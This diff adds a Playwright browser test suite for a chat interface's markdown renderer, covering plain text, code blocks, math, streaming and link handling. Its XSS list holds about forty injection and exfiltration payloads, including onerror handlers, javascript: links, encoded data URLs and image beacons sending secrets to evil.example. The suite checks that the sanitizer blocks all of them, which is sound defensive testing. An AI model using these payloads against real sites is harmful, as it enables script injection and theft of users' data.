@@ -1,0 +1,261 @@
+"""Text on the screen: what the model wrote, drawn as markdown, and nothing it could do harm with."""
+
+from __future__ import annotations
+
+import random
+from typing import Any
+
+import pytest
+from playwright.async_api import BrowserContext, Page, expect
+
+from groq_core.events import TextDelta
+from tests.requires import needs
+from tests.ui.conftest import House, open_page
+from tests.ui.scripts import BEGUN, DONE, answered, ask, plays, says
+
+pytestmark = [pytest.mark.browser, needs("chromium")]
+
+FORBIDDEN = {"SCRIPT", "IFRAME", "STYLE", "LINK", "META", "BASE", "OBJECT", "EMBED", "FORM", "INPUT", "VIDEO", "IMG"}
+
+PLAIN = {
+    "unicode": "né ü 日本語 한국어 עברית العربية 🎉👩‍👩‍👧‍👦 ﷽ — “quotes” … ½ ℵ",
+    "entities": "5 < 6 & 7 > 3, &amp; is an entity, &lt;b&gt; too, © &copy;",
+    "prices": "It costs $5 or $10, at most $0.05/$0.08 per million.",
+    "angle brackets": "Use List<String> and <T extends Foo>, or <think> tags.",
+    "long word": "x" * 500,
+    "separators": "line\u2028separator and\u00a0no-break",
+    "path": r"C:\new\table and \n is two characters",
+}
+"""Texts in which markdown says nothing, by what is special about them; entities are markdown's own."""
+
+DOCUMENTS = {
+    "lists": "Intro\n\n1. one\n2. two\n\n   still two\n\n3. three\n   - a\n   - b\n\n     deep\n\n- other\n\n.",
+    "tables": "| a | b |\n|:--|--:|\n| 1 | `x|y` |\n| 2 | **z** |\n\nafter\n\n| not | a table\n\nend",
+    "code": "```python\ndef f():\n    '```'\n```\n\n~~~\n~\n~~~\n\n    in\n    code\n\n```\nopen",
+    "headings": "Setext\n===\n\ntext\n\nOther\n---\n\n# One\n## Two\n\n---\n\nlast",
+    "quotes": "> a\nlazy\n>\n> b\n\n> c\n\n1. x\n\n   > in a list\n\nend",
+    "links": "[late][1] and [inline](https://example.org/a_(b)) <https://example.org>\n\n[1]: https://example.org 'T'",
+    "math": "Sum $a_1 + b^2$ and\n\n$$\n\\frac{1}{2}\n$$\n\n\\[ x \\] and \\( y \\), $5 and $6.",
+    "html": "<div>\n\n**bold**\n\n</div>\n\nH<sub>2</sub>O<br>x <kbd>K</kbd> <b>no</b>",
+    "line ends": "one\r\ntwo\r\n\r\n- a\r\n- b\r\n\r\nend",
+    "emphasis": "**bold *both* bold** _under_ ~~gone~~ `co``de` ``a`b`` \\*escaped\\*",
+    "tasks": "- [x] done\n- [ ] open\n  - [x] inner",
+}
+
+XSS = (
+    "<script>fire()</script>",
+    "<img src=x onerror=fire()>",
+    "![x](javascript:fire())",
+    "[click](javascript:fire())",
+    "[click](JaVaScRiPt:fire())",
+    "[click](data:text/html;base64,PHNjcmlwdD5maXJlKCk8L3NjcmlwdD4=)",
+    "[click](vbscript:fire())",
+    "<a href='javascript:fire()'>click</a>",
+    "<svg onload=fire()><svg/onload=fire()>",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImZpcmUoKSI+PC9zdmc+)",
+    "<iframe srcdoc='<script>parent.fire()</script>'></iframe>",
+    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<form action=https://evil.example><input name=q><button>send</button></form>",
+    "<details open ontoggle=fire()>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=fire()>",
+    "<noscript><p title='</noscript><img src=x onerror=fire()>'>",
+    "```html\n<img src=x onerror=fire()>\n```",
+    '```"><img src=x onerror=fire()>\ncode\n```',
+    "`<img src=x onerror=fire()>`",
+    "| <img src=x onerror=fire()> |\n|---|\n| <script>fire()</script> |",
+    "$\\href{javascript:fire()}{x}$",
+    "$\\htmlData{onclick=fire()}{x}$ $<img src=x onerror=fire()>$",
+    "$$\\unknown<img src=x onerror=fire()>$$",
+    "![leak](https://evil.example/?q=secret)",
+    "![leak][1]\n\n[1]: https://evil.example/?q=secret",
+    "<img src='https://evil.example/?q=secret'>",
+    "<img src='//evil.example/?q=secret'><picture><source srcset=https://evil.example/x></picture>",
+    "<video poster=https://evil.example/x src=https://evil.example/y></video>",
+    "<table background=https://evil.example/x><tr><td>x</td></tr></table>",
+    "<p style='background: url(https://evil.example/x)'>x</p>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
+    "[x](https://example.org 'title\" onmouseover=fire() x=\"')",
+    "<a id=chat-send>x</a><div id=status-panel data-target='groq:x' data-state=healthy>x</div>",
+    "<div data-role=assistant>spoofed</div>",
+    "${fire()} {{fire()}} {{constructor.constructor('fire()')()}}",
+    "&lt;img src=x onerror=fire()&gt;",
+    "<br onclick=fire()><sub onclick=fire()>x</sub><u style=color:red>x</u>",
+)
+
+
+@pytest.mark.parametrize("name", PLAIN)
+async def test_plain_text_stands_on_the_screen_as_it_came(page: Page, house: House, name: str) -> None:
+    text = PLAIN[name]
+    house.script = says(text, piece=1 if len(text) < 100 else 9)
+    await ask(page, name)
+    shown = await answered(page)
+
+    assert shown == text.replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">").replace("&copy;", "©")
+    await page.locator(".gc-bar-row button").first.click()
+    assert await page.evaluate("navigator.clipboard.readText()") == text
+
+
+async def test_code_stands_on_the_screen_and_is_copied_byte_for_byte(page: Page, house: House) -> None:
+    code = 'def f(x):\n\treturn f"<b>{x}</b>" and "\\n"  # 日本語\n\n\n    # four\nend'
+    house.script = says(f"Before\n\n```python\n{code}\n```\n\nafter")
+    await ask(page, "code")
+    await answered(page)
+    await page.wait_for_selector(".gc-code .hljs-keyword")
+
+    assert await page.locator(".gc-code code").text_content() == code + "\n"
+    await page.click(".gc-copy-code")
+    assert await page.evaluate("navigator.clipboard.readText()") == code
+
+
+async def test_formula_is_drawn_and_a_price_is_not(page: Page, house: House) -> None:
+    house.script = says("Let $E = mc^2$ for $5 and $10, and $$\\int_0^1 x\\,dx$$")
+    await ask(page, "math")
+    await answered(page)
+
+    await expect(page.locator(".gc-math .katex")).to_have_count(2)
+    await expect(page.locator("#chat-log [data-role=assistant]")).to_contain_text("for $5 and $10")
+
+
+async def test_two_hundred_messages_stay_usable(page: Page, house: House) -> None:
+    house.script = says("ok")
+    await ask(page, "the first")
+    await answered(page)
+    await page.evaluate(
+        """async (main) => {
+            const { Answer } = await import(main.replace("main.js", "answer.js"));
+            const host = document.querySelector(".gc-turns");
+            for (let n = 0; n < 200; n += 1) {
+                const answer = new Answer();
+                answer.hear({ t: `Answer **${n}** with \\`code\\` and\\n\\n- a\\n- list\\n` });
+                await answer.end();
+                const turn = document.createElement("section");
+                turn.className = "gc-turn";
+                turn.append(answer.element);
+                host.append(turn);
+            }
+        }""",
+        await main_script(page),
+    )
+    await ask(page, "still there?")
+
+    assert await answered(page, 202) == "ok"
+
+
+@pytest.fixture(scope="module")
+async def bench(context: BrowserContext, application: House) -> Any:
+    """A page on which a test draws text without asking anybody."""
+    page = await context.new_page()
+    hosts: set[str] = set()
+    page.on("request", lambda request: hosts.add(request.url))
+    await open_page(page, application)
+    await page.evaluate(
+        """async (main) => {
+            globalThis.fired = 0;
+            globalThis.fire = () => (globalThis.fired += 1);
+            const { TextView } = await import(main.replace("main.js", "textview.js"));
+            const frame = () => new Promise((done) => requestAnimationFrame(done));
+            globalThis.draw = async (pieces, steps) => {
+                const root = document.createElement("div");
+                root.className = "gc-text";
+                document.querySelector(".gc-turns").append(root);
+                const view = new TextView(root);
+                for (const piece of pieces) {
+                    view.append(piece);
+                    if (steps) await frame();
+                }
+                await view.end();
+                const attributes = [];
+                for (const node of root.querySelectorAll("*")) {
+                    for (const { name, value } of node.attributes) attributes.push([node.tagName, name, value]);
+                }
+                const tags = [...root.querySelectorAll("*")].map((node) => node.tagName);
+                const drawn = { html: root.innerHTML, text: view.text, inner: root.innerText, tags, attributes };
+                root.remove();
+                return drawn;
+            };
+        }""",
+        await main_script(page),
+    )
+    yield page, hosts
+    await page.close()
+
+
+async def main_script(page: Page) -> str:
+    found: str = await page.evaluate("document.querySelector('script[src*=\"js/main.js\"]').src")
+    return found
+
+
+@pytest.mark.parametrize("name", DOCUMENTS)
+@pytest.mark.parametrize("seed", range(2))
+async def test_growing_text_ends_as_the_whole_would_look(bench: tuple[Page, set[str]], name: str, seed: int) -> None:
+    page, _ = bench
+    text, chance = DOCUMENTS[name], random.Random(seed)
+    pieces, at = [], 0
+    while at < len(text):
+        step = chance.randint(1, 6)
+        pieces.append(text[at : at + step])
+        at += step
+
+    grown = await page.evaluate("(pieces) => draw(pieces, true)", pieces)
+    whole = await page.evaluate("(text) => draw([text], false)", text)
+
+    assert grown["html"] == whole["html"]
+    assert grown["text"] == text
+
+
+@pytest.mark.parametrize("attack", XSS, ids=range(len(XSS)))
+async def test_answer_can_neither_run_nor_fetch_nor_pretend(bench: tuple[Page, set[str]], attack: str) -> None:
+    page, asked = bench
+    drawn = await page.evaluate("(text) => draw([text.slice(0, 9), text.slice(9), '\\n\\nend'], true)", attack)
+    await page.evaluate("new Promise((done) => setTimeout(done, 20))")
+
+    assert await page.evaluate("globalThis.fired") == 0
+    assert not [url for url in asked if "evil.example" in url]
+    assert not FORBIDDEN & {tag.upper() for tag in drawn["tags"]}
+    for tag, name, value in drawn["attributes"]:
+        assert not name.startswith("on"), (tag, name, value)
+        assert name not in ("id", "name", "srcset", "action", "data-role", "data-target", "data-state"), (tag, name)
+        if name in ("href", "src"):
+            assert value.startswith(("https://", "data:image/")), (tag, name, value)
+        if name == "style":
+            assert "url" not in value, value
+
+
+async def test_picture_inside_the_answer_is_shown(bench: tuple[Page, set[str]]) -> None:
+    page, _ = bench
+    pixel = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
+
+    drawn = await page.evaluate("(text) => draw([text], false)", f"![a pixel]({pixel})")
+
+    assert f'<img src="{pixel}" alt="a pixel">' in drawn["html"]
+
+
+async def test_remote_picture_is_named_but_not_loaded(bench: tuple[Page, set[str]]) -> None:
+    page, _ = bench
+
+    drawn = await page.evaluate("(text) => draw([text], false)", "![a cat](https://evil.example/cat.png)")
+
+    assert drawn["inner"] == "[a cat: picture from the web, not loaded]"
+
+
+async def test_links_leave_without_a_trace(bench: tuple[Page, set[str]]) -> None:
+    page, _ = bench
+
+    drawn = await page.evaluate("(text) => draw([text], false)", "[docs](https://example.org/x)")
+
+    assert 'target="_blank"' in drawn["html"]
+    assert 'rel="noopener noreferrer nofollow"' in drawn["html"]
+
+
+async def test_background_tab_catches_up_at_once(page: Page, house: House, context: BrowserContext) -> None:
+    house.script = plays(BEGUN, TextDelta("while nobody looked"), DONE)
+    other = await context.new_page()
+    await other.bring_to_front()
+    await ask(page, "go")
+    await page.bring_to_front()
+
+    assert await answered(page) == "while nobody looked"
+    await other.close()
